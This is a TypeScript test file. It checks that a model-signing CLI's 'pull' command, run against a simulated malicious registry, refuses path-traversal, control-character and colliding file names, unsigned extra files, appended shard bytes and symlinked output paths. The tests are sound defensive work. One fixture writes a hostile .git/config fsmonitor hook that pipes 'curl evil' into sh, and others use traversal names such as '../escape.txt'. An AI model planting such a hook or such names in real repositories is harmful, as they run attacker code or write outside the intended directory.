/**
 * `pull` writes only what was signed, only inside -o (issue 12), end to end through the built CLI against a
 * malicious registry: hostile resource names (signed by a compromised signer or listed by the registry) are refused
 * with nothing written anywhere; with a shards signature a file is exactly its signed extent; the output is never
 * an existing path or a symbolic link. One or two names per class run end to end here; the whole catalogue of
 * names runs in-process in registry-client-names.test.ts.
 */
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { generateSigningKey } from '@modelsec/core';
import { describe, expect, it, vi } from 'vitest';
import { runCli } from '../../helpers/cli.js';
import {
  craftedFixture,
  freshClient,
  MaliciousRegistry,
  type SignedFixture,
  signedFixture,
  tempDir,
  tempFile,
} from '../../helpers/malicious-registry.js';

// Each test runs the built CLI several times as child processes; on a loaded machine one run takes seconds.
vi.setConfig({ testTimeout: 240_000 });

async function withRegistry(fn: (r: MaliciousRegistry) => Promise<void>): Promise<void> {
  const r = await MaliciousRegistry.start();
  try {
    await fn(r);
  } finally {
    await r.close();
  }
}

/** Pulls into a fresh parent dir; returns the answer and every path that exists under the parent afterwards. */
async function pull(r: MaliciousRegistry, fixture: SignedFixture, ref = 'acme/tiny@1.0.0') {
  const parent = tempDir('modelsec-pull-');
  const out = path.join(parent, 'out');
  const res = await runCli(['pull', ref, '-o', out, '--public-key', tempFile('k.pub', fixture.publicKeyPem), '--json'], {
    env: freshClient(r),
  });
  const seen: string[] = [];
  const walk = (d: string) => {
    for (const e of readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name);
      seen.push(path.relative(parent, p));
      if (e.isDirectory()) walk(p);
    }
  };
  walk(parent);
  return { res, out, parent, seen: seen.sort() };
}

const key = generateSigningKey();

/** Runs the cases two at a time (each is a CLI child process against its own registry). */
async function all<T>(cases: readonly T[], fn: (c: T) => Promise<void>): Promise<void> {
  for (let i = 0; i < cases.length; i += 2) await Promise.all(cases.slice(i, i + 2).map(fn));
}

describe('pull writes only what was signed, only inside -o', () => {
  it('honest control: nested files land with their bytes, plus model.sig and the log proof model.tlog.json', async () => {
    await withRegistry(async (r) => {
      const fixture = await craftedFixture({ 'a/b/c.bin': 'abc', 'top.json': '{}' }, key);
      r.publish(fixture, { version: '1.0.0' });
      const { res, out, seen } = await pull(r, fixture);
      expect(res.code).toBe(0);
      expect(seen).toEqual(['out', 'out/a', 'out/a/b', 'out/a/b/c.bin', 'out/model.sig', 'out/model.tlog.json', 'out/top.json']);
      expect(readFileSync(path.join(out, 'a/b/c.bin'), 'utf8')).toBe('abc');
      expect(readFileSync(path.join(out, 'model.sig'))).toEqual(fixture.bundleBytes);
    });
  });

  it('traversal-class names signed by a compromised signer are refused by the verifier, nothing written', async () => {
    await all(['../escape.txt', '/etc/evil', 'a\\..\\escape', 'nul\u0000byte'], (name) =>
      withRegistry(async (r) => {
        const fixture = await craftedFixture({ [name]: 'x', 'ok.txt': 'y' }, key);
        r.publish(fixture, { version: '1.0.0' });
        const { res, seen } = await pull(r, fixture);
        expect(res.code, JSON.stringify(name)).toBe(1);
        expect((res.json() as { error: { code: string } }).error.code).toMatch(
          /^(SIGNING_RESOURCE_NAME_INVALID|PULL_NAME_UNSAFE)$/,
        );
        expect(seen).toEqual([]);
      }),
    );
  }, 240_000);

  it('control characters, ANSI escapes, bidi overrides and zero-width characters in names → PULL_NAME_UNSAFE, nothing written', async () => {
    const names = ['evil\u001b[31m.txt', 'rtl\u202egnp.exe'];
    await all(names, async (name) => {
      await withRegistry(async (r) => {
        const fixture = await craftedFixture({ [name]: 'x' }, key);
        r.publish(fixture, { version: '1.0.0' });
        const { res, seen } = await pull(r, fixture);
        expect(res.code, JSON.stringify(name)).toBe(1);
        expect(res.json()).toMatchObject({ error: { code: 'PULL_NAME_UNSAFE' } });
        expect(seen).toEqual([]);
      });
    });
  }, 240_000);

  it('names that collide after Unicode normalisation (NFC/NFD) or case folding, or a file that is also a directory → PULL_NAME_UNSAFE', async () => {
    const cases: Record<string, string>[] = [
      { 'caf\u00e9.bin': 'nfc', 'cafe\u0301.bin': 'nfd' },
      { 'Model.bin': 'upper', 'model.bin': 'lower' },
    ];
    await all(cases, async (files) => {
      await withRegistry(async (r) => {
        const fixture = await craftedFixture(files, key);
        r.publish(fixture, { version: '1.0.0' });
        const { res, seen } = await pull(r, fixture);
        expect(res.code, JSON.stringify(files)).toBe(1);
        expect(res.json()).toMatchObject({ error: { code: 'PULL_NAME_UNSAFE' } });
        expect(seen).toEqual([]);
      });
    });
  }, 240_000);

  it('a name the registry lists but nobody signed never lands (EVIDENCE_LOG_MISMATCH)', async () => {
    await withRegistry(async (r) => {
      const fixture = await craftedFixture({ 'ok.txt': 'y' }, key);
      const extra = Buffer.from('[core]\n\tfsmonitor = "curl evil | sh"\n');
      r.addBlob(extra);
      r.publish(fixture, {
        version: '1.0.0',
        entry: {
          files: [
            ...fixture.files,
            { path: '.git/config', digest: createHash('sha256').update(extra).digest('hex'), size: extra.length },
          ],
        },
      });
      const { res, seen } = await pull(r, fixture);
      expect(res.code).toBe(1);
      expect(res.json()).toMatchObject({ error: { code: 'EVIDENCE_LOG_MISMATCH' } });
      expect(seen).toEqual([]);
    });
  });

  it('shards signature: bytes past the signed extent never land, whether logged (EVIDENCE_LOG_MISMATCH) or only served (PULL_SIZE_MISMATCH)', async () => {
    const fixture = await signedFixture(
      { 'model.pt': Buffer.from('PK-zip-one-0123456789'), 'cfg.json': '{}' },
      { method: 'shards', shardSize: 8 },
    );
    const appended = Buffer.concat([Buffer.from('PK-zip-one-0123456789'), Buffer.from('PK-zip-two-evil')]);
    const appendedDigest = createHash('sha256').update(appended).digest('hex');
    await withRegistry(async (r) => {
      r.publish(fixture, { version: '1.0.0' });
      const ok = await pull(r, fixture);
      expect(ok.res.code).toBe(0);
      expect(readFileSync(path.join(ok.out, 'model.pt'), 'utf8')).toBe('PK-zip-one-0123456789');
    });
    await withRegistry(async (r) => {
      r.addBlob(appended);
      r.publish(fixture, {
        version: '1.0.0',
        entry: {
          files: fixture.files.map((f) =>
            f.path === 'model.pt' ? { path: f.path, digest: appendedDigest, size: appended.length } : f,
          ),
        },
      });
      const { res, seen } = await pull(r, fixture);
      expect(res.json()).toMatchObject({
        error: { code: 'EVIDENCE_LOG_MISMATCH', message: expect.stringContaining('the signed shards cover 21 bytes') },
      });
      expect(seen).toEqual([]);
    });
    await withRegistry(async (r) => {
      r.publish(fixture, { version: '1.0.0' });
      const logged = fixture.files.find((f) => f.path === 'model.pt')?.digest as string;
      r.blobs.set(logged, appended);
      const { res, seen } = await pull(r, fixture);
      expect(res.json()).toMatchObject({ error: { code: 'PULL_SIZE_MISMATCH' } });
      expect(seen).toEqual([]);
    });
  });

  it('the output is never an existing path, a directory or a (dangling) symbolic link', async () => {
    await withRegistry(async (r) => {
      const fixture = await craftedFixture({ 'ok.txt': 'y' }, key);
      r.publish(fixture, { version: '1.0.0' });
      const parent = tempDir('modelsec-pull-');
      const elsewhere = path.join(tempDir('modelsec-target-'), 'target');
      const link = path.join(parent, 'out');
      symlinkSync(elsewhere, link);
      const k = tempFile('k.pub', fixture.publicKeyPem);
      const res = await runCli(['pull', 'acme/tiny@1.0.0', '-o', link, '--public-key', k, '--json'], { env: freshClient(r) });
      expect(res.code).not.toBe(0);
      expect(res.json()).toMatchObject({ error: { code: 'FILE_WRITE_FAILED' } });
      expect(existsSync(elsewhere)).toBe(false);
      const dir = path.join(parent, 'dir');
      mkdirSync(dir);
      const again = await runCli(['pull', 'acme/tiny@1.0.0', '-o', dir, '--public-key', k, '--json'], { env: freshClient(r) });
      expect(again.json()).toMatchObject({ error: { code: 'FILE_WRITE_FAILED' } });
      expect(readdirSync(dir)).toEqual([]);
    });
  });
});
